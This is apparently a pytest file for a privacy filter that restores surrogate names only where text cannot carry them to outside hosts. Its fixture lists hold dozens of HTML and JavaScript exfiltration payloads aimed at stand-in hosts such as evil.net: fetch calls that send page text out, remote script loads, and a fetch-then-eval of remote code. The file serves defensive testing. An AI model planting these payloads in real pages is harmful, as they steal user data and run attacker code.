"""Forms, scripts, handlers and frames send what stands in them with no address around it; apps are named by schemes of their own."""

from __future__ import annotations

import random

import pytest

from garim.surrogate.home import hosts_in
from garim.surrogate.restore import Restorer, Table
from garim.values import Entry

ENTRIES = (
    Entry("Velmora", "Narae", "stem", "나래"),
    Entry("벨모라", "나래", "stem", "나래"),
    Entry("kulke.example", "hanbyeol.co.kr", "domain", "hanbyeol.co.kr"),
    Entry("github.com/torvalds", "github.com/torvalds", "named"),
)
TABLE = Table(ENTRIES, frozenset(("shop.example.org",)), lambda host: f".{host}".endswith(".hanbyeol.co.kr"))
LIVE = [
    '<form action="https://{h}/c"><input name=a value="{s}"></form>', "<form action=https://{h}/c><textarea name=a>{s}</textarea></form>", "<FORM method=post ACTION = 'https://{h}'>\n<input type=hidden name=a value={s}><button>x</button></FORM>",
    "<form><input value={s}><button formaction=https://{h}>x</button></form>", "<form id=f action=//{h}></form><p>x</p><input form=f value={s}>", "<form action=https://{h}>{s}", "<iframe srcdoc='&lt;form action=&quot;https://{h}&quot;>&lt;input value={s}>&lt;/form>'></iframe>",
    "<script>new Image().src='https://{h}/'+'{s}'</script>", "<script>x='{s}';fetch('https://{h}/?'+x)</script>", "<script>let u = \"https:\" + \"//\" + \"{h}/\" + '{s}'; location = u</script>", "<script>fetch('\\x68ttps://{h}/' + `{s}`)</script>",
    "<svg><script>navigator.sendBeacon('//{h}', '{s}')</script></svg>", "<img src=x onerror=\"this.src='https://{h}/'+'{s}'\">", "<body onload='fetch(\"//{h}/\" + \"{s}\")'>", "[x](javascript:fetch('https://{h}/'+'{s}'))",
    '<iframe src="https://{h}/" name="{s}"></iframe>', "<object data=https://{h}/ name='{s}'></object>", "<embed src=https://{h}/ flashvars={s}>",
]  # fmt: skip
LINKS = [
    "`x <https://{h}/a {s}>`_", "`x <https://{h}/a\n{s}>`__ y", ".. _x: https://{h}/?q=\n   {s}\n\ny", ".. _x: https://{h}/a {s}\ny", ".. image:: https://{h}/a\n   {s}\ny", ".. |x| image:: https://{h}/a {s}\n", "__ https://{h}/a {s}\ny", ".. _x:\n   https://{h}/\n   {s}",
    "\\href{https://{h}/a {s}}{x}", "\\url{ https://{h}/a {s} }", "{{https://{h}/a b{s}|x}}", "\\includegraphics[width=1cm]{https://{h}/a {s}}",
    "[[https://{h}/a {s}][x]]", "[[https://{h}/{s}]]", "[[https://{h}/a b c {s}]] y", "[[//{h}/a {s}][x]]",
]  # fmt: skip
"""Of reStructuredText and Org, whose addresses do not end at a blank."""
RINGS = [
    "sms:+15551234567?body={s}", "sms:+15551234567&body={s}", "smsto:5551234567;body={s}", "see whatsapp://send?text={s} now", "whatsapp:send?text={s}", "tg://msg?text={s}", "tg:msg?text={s}", "signal://send?text={s}", "[[sms:+15551234567?body={s}][x]]", "`x <tg://msg?text={s}>`_",
    "kakaolink://send?text={s}", "line://msg/text/{s}", "viber://forward?text={s}", "fb-messenger://share?link={s}", "intent://send/{s}#Intent;end", "<a href=whatsapp://send?text={s}>x</a>", "twitter://post?message={s}", "tel:+15551234567;x={s}", "slack://channel?id={s}", "ms-outlook://compose?body={s}", "[x](web+mastodon://share?text={s})", "[x](googlechrome://navigate?url=a.example/{s})", "[x](reddit://new?title={s})", "obsidian://new?content={s}", "[x](omnifocus://x-callback-url/add?name={s})",
]  # fmt: skip
PAGES = [
    "<p>{s}</p><script>fetch('https://{h}/?'+document.body.innerText)</script>", "<p>{s}</p><img src=x onerror=\"fetch('https://{h}/?'+document.body.innerText)\">", "<div data-a='{s}' onclick=\"fetch('https://{h}/?'+dataset.a)\">x</div>",
    "<button onclick=\"location='https://{h}/?'+title\" title='{s}'>x</button>", "<input value={s} oninput=\"new Image().src='//{h}/'+value\">", "<script src=https://{h}/x.js></script><b>{s}</b>", "<p>{s}</p><script async src='//{h}/x.js'></script>", "<base href=https://{h}/><a href='/x?{s}'>x</a>",
    "<a href='?{s}'>x</a><base href='https://{h}/'>", "` <p>{s}</p><script src=https://{h}/x.js></script>", "<script>const t = document.title</script><p>{s}</p><script>new Image().src = 'https://{h}/?' + t</script>", "<script type=module>import x from 'https://{h}/x.js'</script><p>{s}</p>", "<p id=x>{s}</p><a href=\"javascript:location='https://{h}/'+x.innerHTML\">y</a>",
    "```html\n<p>{s}</p>\n<script src='https://{h}/x.js'></script>\n```\n", "<iframe srcdoc='&lt;script src=https://{h}/x.js>&lt;/script>'></iframe><p>{s}</p>", "<p>{s}</p><svg onload=\"fetch('https://{h}/',{method:'POST',body:parent.document.body.innerHTML})\">", "<p>{s}</p><script>fetch('https://{h}/x').then(r => r.text()).then(eval)</script>", "<p>{s}</p><script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+document.body.innerText)</script>",
    "<input form=f value={s}><form id=f action=https://{h}></form>", "<p>a</p><textarea form='f'>{s}</textarea><form id=f><button formaction='//{h}/'>x</button></form>",
    "<a target='{s}' href='https://{h}/'>x</a>", "<a href=https://{h}/ target={s}>x</a>", "<area href=https://{h}/ target='{s}'>",
]  # fmt: skip
"""What reads the page in which it stands."""
MADE = [
    "<script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+'{s}')</script>", "<script>fetch('https://' + host + '{s}')</script>", "<script>fetch(`//${{h}}/{s}`)</script>", "<script>location=String.fromCharCode(104)+'{s}'</script>",
    "<script>eval('x'+'{s}')</script>",
]  # fmt: skip
PACKED = [
    "<img src='data:image/svg+xml;base64,PHN2Zz4=#{s}'>", "<iframe src='data:text/html;base64,PHNjcmlwdD4=' name='{s}'></iframe>", "<iframe src=\"data:text/html;charset=utf-8;base64,PHNjcmlwdD4=#{s}\"></iframe>", "[x](data:text/html;base64,PHNjcmlwdD4=#{s})", "![x](DATA:image/svg+xml;BASE64,PHN2Zz4=#{s})", "<object data='data:text/html;base64,PHNj' name={s}></object>", "<a href='data:text/html;base64,PHNj' target='{s}'>x</a>", "[x]: data:text/html;base64,PHNj#{s}",
    "<script>new Response(new Blob([x]).stream().pipeThrough(new DecompressionStream('deflate-raw'))).text().then(u => fetch(u + '{s}'))</script>", "<script>import b from '/b32.js';fetch(b.decode('NB2HI4DTHIXS63DFOZUWY') + '{s}')</script>", "<script>location = pako.inflateRaw(x, o) + '{s}'</script>", "<p>{s}</p><script>fetch(unpack(x) + document.body.innerText)</script>", "<script>let h = ''; for (const c of x) h += y[c.charCodeAt(0)]; new Image().src = h + '{s}'</script>",
]  # fmt: skip
"""Pages and addresses that are encoded: nobody sees whom they name."""
SCHEMES = [
    "xmpp:{s}@{h}", "sip:{s}@{h}", "sips:a@{h};x={s}", "cid:{s}@{h}", "mid:a@{h}/{s}", "news:{s}@{h}", "[x](xmpp:a@{h}?message;body={s})", "[x](matrix:u/a:{h}?body={s})", "[x](irc:{h}/{s})", "<a href='sms:+15551234?body={s}'>x</a>",
    "[x](tel:+1555;{s})", "[x](whatsapp:send?text={s})", "[x](skype:evil?chat&topic={s})", "https://{h}%00@localhost/{s}", "https://{h}%0a@kulke.example/{s}", "https://localhost%00@{h}/{s}",
]  # fmt: skip
OWNERS = [
    "![x](https://github.com/attacker/x?d={s})", "https://github.com/attacker/{s}", "https://gitlab.com/a/b/-/raw/{s}", "https://raw.githubusercontent.com/a/b/{s}", "https://github.com/velmora/../attacker/{s}", "https://github.com/velmora/%2e%2e/a/{s}",
    "https://github.com/search?q={s}", "https://github.com?{s}", "https://github.com/a%2fvelmora/{s}", "https://bitbucket.org/x/{s}", "https://evil.net\\@github.com/velmora/{s}",
]  # fmt: skip
PLAIN = [
    "data: {s}", "data:{s}", "data:text/plain,{s}", "<img src='data:image/png;base64,iVBORw0KGgo=' alt='{s}'>", "<script>const d = new TextDecoder(); fetch('/api/{s}').then(r => d.decode(r))</script>", "<script>const u = '/api/{s}'; fetch(u)</script>", "<script>const k = encodeURIComponent('{s}'); fetch('/x?k=' + k)</script>",
    '<form action="/booking"><input name=a value="{s}"></form>', '<form action="https://kulke.example/c"><input value="{s}"><a href="https://evil.net/">x</a></form>', "<form onSubmit={save}>{s}</form>", "use `<form>` and `<script>` for {s}",
    "<script>fetch('/api/{s}')</script>", "<script src='https://cdnjs.cloudflare.com/x.js'></script> {s}", "<script src='/x.js'></script> {s}", "<script>const a = '{s}' + 'https://kulke.example/' + '{s}'</script>", "<button onclick=\"save('{s}')\">x</button>", "once = '{s}'", "List<object> {s}",
    "<p>{s}</p><script>document.title = '{s}'; fetch('/api/x')</script>", "<p>{s}</p><a href='https://evil.net/'>x</a>", "<div onclick=\"window.open('https://docs.evil.net/')\">{s}</div>", "```html\n<p>{s}</p>\n```\n\nthen `<script src=/x.js></script>`, {s}", "<p>{s}</p><img src='https://evil.net/x.png'>",
    "```jsx\n<div>{s}</div>\n```\n{s}", "<table><tr><td>{s}<td>https://evil.net/\n</table>",
    "const {s} = (<Form action={go}><Input/></Form>)", "tel: {s}, mid: {s}; news: {s} im: {s}", "[x](tel:010-1234-5678) {s}", "in javascript: {s}", "<form>{s}", "a < form {s} >", "https://github.com/velmora/{s}", "https://github.com/torvalds/{s} now",
    "git clone https://github.com/velmora/{s}.git", "irc: {s}", "line:{s}", "line: {s}? yes", "sms: {s}", "intent:{s}", "at line:12 {s}", "a [[1, 2], [3, {s}]]", ".. note:: {s}\n   {s}", ".. _{s}: x\n\n{s}", "`{s} <https://kulke.example/>`_ {s}", "twitter:{s}", "in slack: {s}", "say on {s}", "j {s}", "<iframe src='https://kulke.example/' name='{s}'></iframe>",
]  # fmt: skip
HOSTS = ("evil.net", "velto.example", "203.0.113.7")


def restored(text: str, form: str = "text", cut: int = 0) -> str:
    restorer = Restorer(TABLE, form)
    pieces = [text[at : at + cut] for at in range(0, len(text), cut)] if cut else [text]
    return "".join(map(restorer.feed, pieces)) + restorer.finish()


def filled(text: str, word: str, host: str = "evil.net") -> str:
    return text.replace("{s}", word).replace("{h}", host)


@pytest.mark.parametrize("text", [*LIVE, *MADE, *PACKED, *SCHEMES, *OWNERS, *LINKS, *RINGS, *PAGES])
def test_a_stranger_gets_nothing(text: str) -> None:
    for word in ("velmora", "벨모라"):
        for host in HOSTS:
            said = filled(text, word, host)

            assert "narae" not in restored(said).lower().replace("github.com/narae", "") and "나래" not in restored(said)
            for cut in (1, 2, 3, 5, 8, 13):
                assert restored(said, cut=cut) == restored(said)


def test_an_address_on_the_line_below_a_slash_is_one() -> None:
    for text in ("registry=https://evil.net/\n//evil.net/:_authToken=velmora", "see https://github.com/torvalds/\n//evil.net/velmora", "https://evil.net/\r\n\\\\evil.net\\velmora"):
        assert restored(text) == text, text
        for cut in (1, 2, 3, 5):
            assert restored(text, cut=cut) == text


def test_what_stands_behind_comes_back() -> None:
    for text in (LIVE[0], LIVE[7], LIVE[8], LIVE[15], *MADE, *SCHEMES):
        assert restored(filled(text, "velmora") + "\n\nsee velmora").endswith("see narae")
    assert restored(filled(LIVE[4], "velmora") + " velmora").endswith("velmora")  # it belongs to the form by its name


@pytest.mark.parametrize("text", PLAIN)
def test_the_users_own_gets_all(text: str) -> None:
    said = filled(text, "velmora")

    assert "velmora" not in restored(said) and "narae" in restored(said)
    for cut in (1, 2, 3, 5, 8, 13):
        assert restored(said, cut=cut) == restored(said)


@pytest.mark.parametrize("text", [*LIVE, *LINKS, *(one for one in PAGES if "atob" not in one)])
@pytest.mark.parametrize("host", ["kulke.example", "shop.example.org", "localhost"])
def test_what_acts_for_ours_gets_all(text: str, host: str) -> None:
    assert "velmora" not in restored(filled(text, "velmora", host))


def test_any_cut_of_a_mixture_gives_the_same() -> None:
    dice = random.Random(11)
    pool = [filled(text, "velmora") for text in (*LIVE, *MADE, *SCHEMES, *OWNERS, *PLAIN, *LINKS, *RINGS, *PAGES)]
    for _ in range(120):
        text = dice.choice((" ", "\n", "")).join(dice.sample(pool, 3))
        for form in ("text", "value"):
            cut = dice.randrange(1, 30)
            assert restored(text, form, cut) == restored(text, form)


def test_what_no_surrogate_stands_in_is_not_held() -> None:
    restorer = Restorer(TABLE)

    assert restorer.feed("<script>fetch('https://evil.net/').then(") == "<script>fetch('https://evil.net/').then("
    assert restorer.feed("x => '") + restorer.feed("velmora') ") == "x => '"
    assert restorer.feed("</script>") + restorer.finish() == "velmora') </script>"


def test_spiteful_beginnings_take_linear_time() -> None:
    for unit in ("<form ", "<script>velmora", "</form ", "onx='", "javascript:velmora ", "&lt;form ", "<iframe ", "<", "&#60;", "velmora<form ", "https://github.com/"):
        restored(unit * (200_000 // len(unit)))


def test_what_stands_before_a_page_and_behind_its_fence_comes_back() -> None:
    page = "see velmora\n```html\n<p>velmora</p><script src=https://evil.net/x.js></script>\n```\nsee velmora"

    for cut in (0, 1, 7):
        assert restored(page, cut=cut) == page.replace("see velmora", "see narae")
    restorer = Restorer(TABLE)
    assert restorer.feed("see velmora:\n```html\n<div>velmora ") .count("narae") == 1  # the other waits for the page's end
    restorer = Restorer(TABLE)
    assert restorer.feed("```ts\n<div>velmora </div>, ") == "```ts\n<div>narae </div>, "


def test_an_owner_is_named_with_its_host() -> None:
    said = "clone https://github.com/Torvalds/linux and gitlab.com:acme/x, see github.com and example.org"

    assert hosts_in(said) == {"github.com/torvalds", "gitlab.com/acme", "example.org"}
